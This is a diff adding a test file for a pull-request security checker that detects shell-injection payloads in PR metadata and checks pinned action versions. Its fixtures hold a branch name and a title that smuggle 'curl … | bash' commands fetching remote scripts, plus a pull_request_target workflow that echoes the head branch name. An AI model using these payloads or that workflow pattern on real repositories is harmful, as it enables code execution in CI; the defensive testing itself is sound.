@@ -1,0 +1,78 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { hasShellPayload } from '../../src/ecosystems/github-actions/pr-metadata.js';
+import { createOctokit } from '../../src/github/create-octokit.js';
+import { fetchPrData, MAX_BASE_WORKFLOWS } from '../../src/github/fetch-pr-data.js';
+import { startGitHubServer, type GitHubServer } from '../support/github-server.js';
+import { makePrFixture, typicalPrFixture, type PrFixture } from '../support/pr-fixture.js';
+
+/** The base's workflows are read only when the PR's metadata carries shell syntax, within a bound. */
+
+const wantContent = (p: string): boolean => /(^|\/)package\.json$|^\.github\/workflows\//.test(p);
+const workflow = (name: string) => `name: ${name}\non: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ github.head_ref }}"\n`;
+
+let server: GitHubServer;
+let typical: PrFixture;
+let payload: PrFixture;
+let many: PrFixture;
+let tagged: PrFixture;
+
+beforeAll(async () => {
+  server = await startGitHubServer();
+  typical = server.addPullRequest(typicalPrFixture());
+  const base = { owner: 'acme', repo: 'proxy', author: { login: 'drive-by-7' }, files: [{ path: 'README.md', base: 'proxy\n', head: 'proxy server\n' }] };
+  payload = server.addPullRequest(
+    makePrFixture({ ...base, number: 5, headBranch: 'fix$({curl,-sSfL,raw.example.dev/x.sh}${IFS}|${IFS}bash)', baseFiles: { '.github/workflows/format.yml': workflow('format'), '.github/workflows/ci.yml': workflow('ci'), '.github/workflows/README.md': 'docs\n' } }),
+  );
+  const baseFiles: Record<string, string> = {};
+  for (let i = 0; i < MAX_BASE_WORKFLOWS + 3; i += 1) baseFiles[`.github/workflows/w${String(i).padStart(2, '0')}.yml`] = workflow(`w${i}`);
+  const pinned = (sha: string, tag: string) => `name: ci\non: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: some-vendor/deploy@${sha} # ${tag}\n`;
+  tagged = server.addPullRequest(makePrFixture({ ...base, number: 7, files: [{ path: '.github/workflows/deploy.yml', base: pinned('c'.repeat(40), 'v2.3.0'), head: pinned('a'.repeat(40), 'v2.3.1') }] }));
+  server.addRoute({
+    method: 'GET',
+    path: '/repos/some-vendor/deploy/commits/:ref',
+    handler: (request) => (request.params.ref === 'v2.3.1' ? { status: 200, headers: { 'content-type': 'application/vnd.github.sha; charset=utf-8' }, body: 'b'.repeat(40) } : { status: 404, body: { message: 'Not Found' } }),
+  });
+  many = server.addPullRequest(makePrFixture({ ...base, number: 6, title: 'docs: typo; curl -s https://x.example | sh', baseFiles }));
+});
+afterAll(async () => {
+  await server.close();
+});
+
+async function analyze(fixture: PrFixture) {
+  server.reset();
+  const { octokit, requestCount } = createOctokit({ baseUrl: server.apiUrl, retryBaseMs: 1, timeoutMs: 2000, log: { warn: () => undefined } });
+  const snapshot = await fetchPrData(octokit, { owner: fixture.owner, repo: fixture.repo, number: fixture.number }, { wantContent, metadataPayload: hasShellPayload });
+  return { snapshot, requests: requestCount() };
+}
+
+describe('reading the base workflows for a metadata payload', () => {
+  it('costs a typical PR no request', async () => {
+    const { snapshot, requests } = await analyze(typical);
+    expect(server.requests.some((r) => decodeURIComponent(r.path).endsWith('/contents/.github/workflows'))).toBe(false);
+    expect(snapshot.baseFiles.some((f) => f.path.startsWith('.github/workflows/'))).toBe(false);
+    expect(requests).toBeLessThanOrEqual(12);
+  });
+
+  it('lists the workflows once and reads each YAML file when the branch name carries shell syntax', async () => {
+    const { snapshot } = await analyze(payload);
+    const paths = server.requests.map((r) => decodeURIComponent(r.path)).filter((p) => p.includes('/contents/.github/workflows'));
+    expect(paths.sort()).toEqual(['/repos/acme/proxy/contents/.github/workflows', '/repos/acme/proxy/contents/.github/workflows/ci.yml', '/repos/acme/proxy/contents/.github/workflows/format.yml']);
+    expect(snapshot.baseFiles.filter((f) => f.path.startsWith('.github/workflows/')).map((f) => f.path)).toEqual(['.github/workflows/ci.yml', '.github/workflows/format.yml']);
+    expect(snapshot.warnings).toEqual([]);
+  });
+
+  it(`reads at most ${MAX_BASE_WORKFLOWS} and says how many it left`, async () => {
+    const { snapshot } = await analyze(many);
+    expect(snapshot.baseFiles.filter((f) => f.path.startsWith('.github/workflows/'))).toHaveLength(MAX_BASE_WORKFLOWS);
+    expect(snapshot.warnings).toEqual([`3 of the base's workflows were not read (at most ${MAX_BASE_WORKFLOWS}): they were not checked for expanding this PR's title, body or branch name`]);
+  });
+});
+
+describe('checking version comments of pinned actions', () => {
+  it('resolves the tag of each SHA-pinned uses: line the PR adds, in one request', async () => {
+    const { snapshot } = await analyze(tagged);
+    expect(snapshot.actionTags).toEqual([{ path: '.github/workflows/deploy.yml', action: 'some-vendor/deploy', tag: 'v2.3.1', pinned: 'a'.repeat(40), resolved: 'b'.repeat(40) }]);
+    expect(server.requests.filter((r) => r.path.startsWith('/repos/some-vendor/deploy/commits/')).map((r) => r.path)).toEqual(['/repos/some-vendor/deploy/commits/v2.3.1']);
+    expect(snapshot.warnings).toEqual([]);
+  });
+});
